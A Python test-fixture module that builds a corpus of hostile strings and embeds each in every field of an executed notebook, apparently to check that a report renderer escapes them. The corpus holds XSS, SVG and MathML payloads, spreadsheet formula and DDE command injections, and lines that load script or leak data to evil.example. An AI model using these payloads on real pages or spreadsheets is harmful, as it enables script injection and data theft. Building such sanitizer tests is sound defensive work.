"""Texts that try to break out of a page, and one executed notebook that holds each of them everywhere.

- `CORPUS`: name to text.
- `nasty_notebook`: the notebook; `nasty_pieces`: what its cells show.
- `MARK`: what a script that got through would leave (`window.injected`), for tests in a browser.
"""

from __future__ import annotations

import polars as pl
from matplotlib.figure import Figure
from nbformat.v4 import new_output
from tiny_notebooks import code, notebook, shown, text

from shoptoolkit.report import answer, callout, figure, table

MARK = "window.injected=1"
CORPUS = {
    "script": f"<script>{MARK}</script>",
    "script with a source": '<script src="https://evil.example/x.js"></script>',
    "script, odd case and blanks": f"<ScRiPt\n/x>{MARK}</sCrIpT >",
    "script out of an attribute": f'"><script>{MARK}</script>',
    "script left open": f"<script>{MARK}",
    "end of a script": f"</script><script>{MARK}</script>",
    "event handler": f"<img src=x onerror={MARK}>",
    "event handler, single quotes": f"' onmouseover='{MARK}",
    "event handler, slash for a blank": f'<b/onmouseover="{MARK}">b</b>',
    "event handler of details": f"<details open ontoggle={MARK}>d</details>",
    "focus by itself": f"<a id=shop-theme href=# autofocus onfocus={MARK} tabindex=1>a</a>",
    "link that runs": f"<a href=javascript:{MARK}>a</a>",
    "link that runs, hidden": f"<a href='&#1;java\nscr\tipt&colon;{MARK}'>a</a>",
    "markdown link that runs": f"[a](javascript:{MARK})",
    "markdown picture that runs": f'![x](x "q" onerror={MARK})',
    "markdown and HTML": "**b** <b>*i*</b>\n\n</div></section></main>\n\n# Another title\n\n- <td>",
    "data link": "<a href='data:text/html,<script>window.injected=1</script>'>a</a>",
    "svg with a handler": f"<svg onload={MARK}><circle r=1 /></svg>",
    "svg that animates a link": f"<svg><a><animate attributeName=href values=javascript:{MARK} /><text>a</text></a>",
    "svg that borrows": "<svg><use href='https://evil.example/x.svg#a'/><image href='https://evil.example/i.png'/></svg>",
    "svg and style": f'<svg><style><a id="</style><img src=x onerror={MARK}>">',
    "math and style": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={MARK}&gt;">',
    "math with a link": f'<math href="javascript:{MARK}"><mi xlink:href="javascript:{MARK}">x</mi></math>',
    "formula with HTML": rf"$\text{{<img src=x onerror={MARK}>}}$ $\href{{javascript:{MARK}}}{{x}}$",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    "textarea": f"<textarea><b></textarea><img src=x onerror={MARK}>",
    "template braces": "{{ 7*7 }} {% for x in [1] %}x{% endfor %} {# gone #} ${7*7} {{ resources.policy }}",
    "frame": "<iframe srcdoc='<script>parent.injected=1</script>'></iframe><frameset onload=alert(1)>",
    "object and embed": "<object data='javascript:alert(1)'></object><embed src='https://evil.example/x.swf'>",
    "base": "<base href='https://evil.example/'>",
    "form": "<form action='https://evil.example/'><input name=card><button formaction='javascript:alert(1)'>b</form>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "another policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "style": "<style>body{display:none}@import 'https://evil.example/x.css';</style>",
    "style of a tag": "<p style=\"position:fixed;inset:0;background:url('https://evil.example/i.png')\">p</p>",
    "a class of the page": '<p class="banner">This run stopped</p><nav class="toc">x</nav>',
    "body": f"</body></html><body onload={MARK}><html onclick={MARK}>",
    "table torn open": "</td></tr></tbody></table></div><h1>torn</h1>",
    "comment": "<!-- a --><!--[if IE]><script>alert(1)</script><![endif]--><!-- left open",
    "CDATA": f"<![CDATA[<script>{MARK}</script>]]><?php echo 1 ?><!DOCTYPE html>",
    "plaintext": "<plaintext><xmp><listing>",
    "formula of a spreadsheet": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "command of a spreadsheet": "=cmd|' /C calc'!A0",
    "plus, minus, at": "+1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-1+1",
    "tab before a formula": "\t=1+1",
    "return before a formula": "\r=1+1",
    "right to left": "\u202egnp.exe\u202c \u2067abc \u200f\u05d0\u05d1",
    "zero width": "a\u200bb\u200c\u200d\ufeff\u2060",
    "line separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "null and control characters": "a\x00b\x01\x08\x1b[31mred\x7f",
    "10 000 characters": "w" * 10_000,
    "10 000 combining marks": "e" + "\u0301" * 10_000,
    "entities": "&lt;b&gt; &#60;script&#62; &amp;amp; &notanentity &#0; &#xD800;",
    "emoji and astral": "👩\u200d👩\u200d👧 \U0010ffff 𝕏",
    "quotes and backslashes": "\"'`\\\"\\'</title>",
    "nested 600 deep": "<b>" * 600,
}


def nasty_pieces(nasty: str) -> list[object]:
    """Everything a notebook may show, with one text in every place that takes a text."""
    estimates = {"who": [nasty, nasty], "estimate": [0.1, None], "low": [0.0, None], "high": [0.2, None]}
    frame = pl.DataFrame(estimates | {"verdict": ["ok", "refused"], "reason": [nasty, nasty], nasty: [nasty, nasty]})
    return [
        table(frame, title=f"t {nasty}", note=nasty),
        callout(f"t {nasty}", nasty, kind="trap"),
        figure(_drawn(), title=f"t {nasty}", note=nasty, alt=f"a {nasty}"),
    ]


def _drawn() -> Figure:
    drawing = Figure((1, 1))
    drawing.add_subplot().plot([1, 2])
    return drawing


def _plain_outputs(nasty: str) -> list[object]:
    """What cells leave without our pieces: frames, streams, pictures, formulas, errors."""
    with pl.Config(tbl_rows=-1, fmt_str_lengths=20_000):
        frame = pl.DataFrame({"x": [nasty], nasty or "y": [nasty]})._repr_html_()
    data = [
        {"text/html": frame},
        {"text/html": f"<div><p>{nasty}"},
        {"text/markdown": nasty},
        {"text/latex": f"${nasty}$"},
        {"text/plain": nasty},
        {"image/png": nasty},
        {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{nasty}</svg>"},
        {"application/javascript": "window.injected=1", "text/plain": nasty},
    ]
    shown_ = [new_output("display_data", data=one, metadata={"alt": nasty}) for one in data]
    streams = [new_output("stream", name=name, text=f"{nasty}\n") for name in ("stdout", "stderr")]
    return [*shown_, *streams]


def nasty_notebook(corpus: dict[str, str] = CORPUS) -> object:
    """An executed notebook that holds each text of the corpus in every place of a report.

    The title, the answer and the failure hold one text each; give a corpus of one text to try it there.
    """
    first = next(iter(corpus.values()))
    box = answer(
        sentence=f"s {first} <b>{first}</b>",
        number=f"{first} 36 %",
        interval=first or "i",
        more=first,
        checks=[(nasty, "warn", nasty) for nasty in corpus.values()],
        figure=_drawn(),
        caption=first,
        caption_note=first,
        alt=f"a {first}",
        facts={f"f {nasty}": nasty for nasty in corpus.values()},
    )
    defaults = "\n".join(f"p{n} = {nasty!r}" for n, nasty in enumerate(corpus.values()))
    injected = "\n".join(f"p{n} = {nasty + ' '!r}" for n, nasty in enumerate(corpus.values()))
    cells = [text(f"# Title {first}\n\n{first}"), code(defaults, "parameters"), code(injected, "injected-parameters")]
    for name, nasty in corpus.items():
        cells.append(
            text(f"## Section {name}\n\nBefore.\n\n{nasty}\n\n### {nasty}\n\n| a | b |\n|--|--|\n| {nasty} | b |")
        )
        pieces = [shown(piece) for piece in nasty_pieces(nasty)]
        cells.append(code(f"x = {nasty!r}  # {nasty!a}", outputs=pieces + _plain_outputs(nasty)))
    cells.append(text("## The end\n\nStill here."))
    error = new_output("error", ename=first, evalue=first, traceback=[first])
    cells += [
        code("raise ValueError", "raises-exception", outputs=[error]),
        code("report.answer()", outputs=[shown(box)]),
    ]
    for count, cell in enumerate((cell for cell in cells if cell.cell_type == "code"), start=1):
        cell.execution_count = count
    return notebook(*cells)
